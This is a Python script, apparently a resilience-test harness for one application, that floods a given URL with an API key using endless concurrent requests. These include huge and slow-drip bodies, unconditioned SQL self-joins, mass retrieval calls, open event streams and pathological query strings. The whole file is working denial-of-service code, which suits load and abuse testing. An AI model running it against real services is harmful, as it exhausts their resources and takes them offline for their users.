"""A hostile key at work, as a program of its own: ``python -m ... URL KEY`` until it is killed.

Large bodies, slow bodies, joins without a condition, hundreds of requests at once, streams held open,
questions that a careless pattern would take for ever with. It says ``at it`` once all of it is under way.
"""

from __future__ import annotations

import asyncio
import json
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from urllib.parse import urlsplit

import httpx

_BIG = 60 << 20
_SLOW, _JOINS, _MANY, _STREAMS, _QUESTIONS = 16, 8, 200, 8, 8
_JOIN = "SELECT count(*) FROM press a, press b, press c WHERE a.heat * b.speed > c.heat"
_QUESTION = "a" * 3_000 + "!" + "(" * 500 + " ".join(f"P-{n}" for n in range(300))


async def attack(url: str, key: str) -> None:
    """All of it at once, for ever."""
    head = {"Authorization": f"Bearer {key}"}
    limits = httpx.Limits(max_connections=None)
    async with httpx.AsyncClient(base_url=url, headers=head, timeout=300, limits=limits) as client:

        async def posted(path: str, body: object) -> None:
            await client.post(path, json=body)

        async def blocks() -> AsyncIterator[bytes]:
            for _ in range(_BIG >> 16):
                yield b"x" * (1 << 16)

        async def large() -> None:
            await client.post("/api/tools/sql", content=blocks())

        def tool(name: str, **given: object) -> Callable[[], Awaitable[None]]:
            return lambda: posted(f"/api/tools/{name}", given)

        async def stream() -> None:
            await client.get("/mcp", headers={"Accept": "text/event-stream"})

        work: list[Callable[[], Awaitable[None]]] = [
            large, large,
            *[lambda: _slow(url, key)] * _SLOW, *[tool("sql", statement=_JOIN)] * _JOINS,
            *[tool("retrieve", question="bearing", k=1000)] * _MANY, *[stream] * _STREAMS,
            *[tool("ask", question=_QUESTION, extractive=True)] * _QUESTIONS,
        ]  # fmt: skip
        tasks = [asyncio.create_task(_again(one)) for one in work]
        sys.stdout.write("at it\n")
        sys.stdout.flush()
        await asyncio.gather(*tasks)


async def _again(one: Callable[[], Awaitable[None]]) -> None:
    while True:
        try:
            await one()
        except (httpx.HTTPError, OSError):
            await asyncio.sleep(0.05)  # turned away: it comes again
        await asyncio.sleep(0.02)


async def _slow(url: str, key: str) -> None:
    """A body of which a byte comes now and then."""
    to = urlsplit(url)
    _, writer = await asyncio.open_connection(to.hostname, to.port)
    head = (
        f"POST /api/tools/sql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(json.dumps(_JOIN)) + 1000}\r\n\r\n"
    )
    writer.write(head.encode())
    try:
        while True:
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(0.5)
    finally:
        writer.close()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2]))
